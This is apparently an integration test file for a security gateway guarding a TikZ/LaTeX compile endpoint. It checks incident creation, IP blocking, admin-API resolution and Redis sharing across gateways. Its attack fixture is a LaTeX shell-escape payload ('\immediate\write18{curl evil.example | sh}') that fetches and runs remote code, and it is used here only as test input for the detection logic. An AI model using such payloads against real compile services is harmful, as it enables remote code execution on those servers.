// Incidents through real requests: an unmistakable attack opens a critical incident whose actions block the
// client (the block, not the signature, refuses it next), listed and resolved through the admin API; and two
// gateways on one real Redis count one attacker into one incident, opened once, its block in force on both.
import { afterEach, describe, expect, it } from 'vitest';
import { request } from 'undici';
import { baseConfig, COMPILE_ROUTE, metric, startTestGateway, type TestGateway } from '../../helpers/gateway.js';
import { startUpstream, type TestUpstream } from '../../helpers/upstream.js';
import { until } from '../../helpers/poll.js';
import { describeRedis, startRedis, type RedisServer } from '../../helpers/redis.js';

const TOKEN = 'incidents-admin-token';
const ATTACK = JSON.stringify({ tikz_code: '\\immediate\\write18{curl evil.example | sh}' });
const BENIGN = JSON.stringify({ tikz_code: '\\draw (0,0) -- (1,1);' });
// the block must come from the incident: the automatic block of decisions is turned off
const INCIDENTS = `refusals:\n  disclose: codes\ndecisions:\n  auto: { critical_signature: false }\nincidents:\n  mode: enforce\n`;

let up: TestUpstream | null = null;
const gws: TestGateway[] = [];
let redis: RedisServer | null = null;
afterEach(async () => {
  for (const g of gws.splice(0)) await g.close();
  await up?.close();
  await redis?.stop();
  up = redis = null;
});

const config = (upstream: string, extra = '') =>
  baseConfig(upstream, `${COMPILE_ROUTE}${INCIDENTS}${extra}`, '  trusted_proxies: [127.0.0.1/32]').replace(
    'admin:\n',
    `admin:\n  tokens: [${TOKEN}]\n`,
  );

async function post(g: TestGateway, body: string, client: string) {
  const res = await request(`${g.url}/compile`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-forwarded-for': client },
    body,
  });
  const text = await res.body.text();
  return { status: res.statusCode, reasons: res.statusCode === 200 ? [] : (JSON.parse(text).reasons as string[]) };
}

async function admin(g: TestGateway, method: 'GET' | 'POST', path: string, body?: unknown) {
  const res = await request(`${g.adminUrl}${path}`, {
    method,
    headers: { authorization: `Bearer ${TOKEN}`, 'content-type': 'application/json' },
    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
  });
  return { status: res.statusCode, body: (await res.body.json()) as Record<string, unknown> };
}

type Listed = { id: string; kind: string; severity: string; state: string; count: number; actions: string[] };

/** Polls until `client` is refused by a block (the incident acts in the log phase, after the answer). */
async function refusedByBlock(g: TestGateway, client: string, withinMs = 2_000): Promise<string[]> {
  const start = Date.now();
  for (;;) {
    const r = await post(g, BENIGN, client);
    if (r.status === 403 && r.reasons.some((x) => x.startsWith('block:'))) return r.reasons;
    if (Date.now() - start > withinMs) return r.reasons;
    await new Promise((res) => setTimeout(res, 20));
  }
}

describe('incidents', () => {
  it('open on an attack, block the client, and are listed and resolved through the admin API', async () => {
    up = await startUpstream();
    const g = await startTestGateway(config(up.url));
    gws.push(g);
    expect((await post(g, BENIGN, '203.0.113.66')).status).toBe(200);
    const first = await post(g, ATTACK, '203.0.113.66');
    expect(first.status).toBe(403);
    expect(first.reasons.some((r) => r.startsWith('sig:'))).toBe(true);
    expect(await refusedByBlock(g, '203.0.113.66')).toEqual(['block:incident']);
    // another client is not touched
    expect((await post(g, BENIGN, '203.0.113.67')).status).toBe(200);

    const listed = await admin(g, 'GET', '/admin/api/incidents?severity=critical');
    expect(listed.status).toBe(200);
    const incidents = listed.body.incidents as Listed[];
    expect(incidents).toHaveLength(1);
    expect(incidents[0]).toMatchObject({ kind: 'attack', severity: 'critical', state: 'open' });
    expect(incidents[0]!.actions[0]).toBe('block_ip 3600s 203.0.113.66');
    expect(
      await metric(g.adminUrl, 'portcullis_incident_transitions_total', {
        kind: 'attack',
        severity: 'critical',
        transition: 'opened',
      }),
    ).toBe(1);

    const resolved = await admin(g, 'POST', `/admin/api/incidents/${incidents[0]!.id}`, {
      action: 'resolve',
      actor: 'alice',
      note: 'blocked, looked at',
    });
    expect(resolved.status).toBe(200);
    expect(resolved.body).toMatchObject({ transition: 'resolved', incident: { state: 'resolved' } });
    expect((await admin(g, 'POST', '/admin/api/incidents/0123456789abcdef', { action: 'resolve' })).status).toBe(404);
    expect((await admin(g, 'POST', `/admin/api/incidents/${incidents[0]!.id}`, { action: 'drop' })).status).toBe(400);
    // an id that is not percent-encoding is a bad request, not a fault
    expect((await admin(g, 'POST', '/admin/api/incidents/%zz', { action: 'resolve' })).status).toBe(400);
    expect((await admin(g, 'POST', '/admin/api/alerts/dead-letters/%zz')).status).toBe(400);
  });

  it('leave allow-listed clients alone', async () => {
    up = await startUpstream();
    const g = await startTestGateway(config(up.url, 'reputation:\n  allow: [198.51.100.0/24]\n'));
    gws.push(g);
    expect((await post(g, ATTACK, '198.51.100.9')).status).toBe(403);
    await new Promise((r) => setTimeout(r, 100));
    expect((await admin(g, 'GET', '/admin/api/incidents')).body.incidents).toEqual([]);
  });
});

describeRedis('incidents shared through Redis', () => {
  it('two gateways: one incident, opened once, its block in force on both', async () => {
    redis = await startRedis();
    up = await startUpstream();
    const store = `store:\n  type: redis\n  redis:\n    url: redis://127.0.0.1:${redis.port}\n    key_prefix: "inc:"\n    timeout_ms: 2000\n`;
    for (let i = 0; i < 2; i++) gws.push(await startTestGateway(config(up.url, store)));
    const [a, b] = gws as [TestGateway, TestGateway];
    const [ra, rb] = await Promise.all([post(a, ATTACK, '192.0.2.44'), post(b, ATTACK, '192.0.2.44')]);
    expect([ra.status, rb.status]).toEqual([403, 403]);
    expect(await refusedByBlock(a, '192.0.2.44')).toEqual(['block:incident']);
    expect(await refusedByBlock(b, '192.0.2.44')).toEqual(['block:incident']);
    const onA = (await admin(a, 'GET', '/admin/api/incidents')).body.incidents as Listed[];
    const onB = (await admin(b, 'GET', '/admin/api/incidents')).body.incidents as Listed[];
    expect(onA).toHaveLength(1);
    expect(onB).toEqual(onA);
    expect(onA[0]!.count).toBe(2);
    const opened = async (g: TestGateway) =>
      metric(g.adminUrl, 'portcullis_incident_transitions_total', {
        kind: 'attack',
        severity: 'critical',
        transition: 'opened',
      });
    expect((await opened(a)) + (await opened(b))).toBe(1);
    // the events API of either instance lists the events of both (a shared list in Redis)
    const both = await until(async () => {
      const r = await admin(b, 'GET', '/admin/api/events?client=192.0.2.44&module=sig');
      return (r.body.total as number) >= 2 ? r.body : null;
    });
    expect(both).toMatchObject({ source: 'shared', total: 2 });
    expect((await admin(a, 'GET', '/admin/api/events?client=192.0.2.44&module=sig')).body).toMatchObject({
      source: 'shared',
      total: 2,
    });
    // Redis gone: each instance answers with its own events, and says so
    await redis!.stop();
    redis = null;
    expect((await admin(a, 'GET', '/admin/api/events?client=192.0.2.44&module=sig')).body).toMatchObject({
      source: 'local',
      total: 1,
    });
  });
});
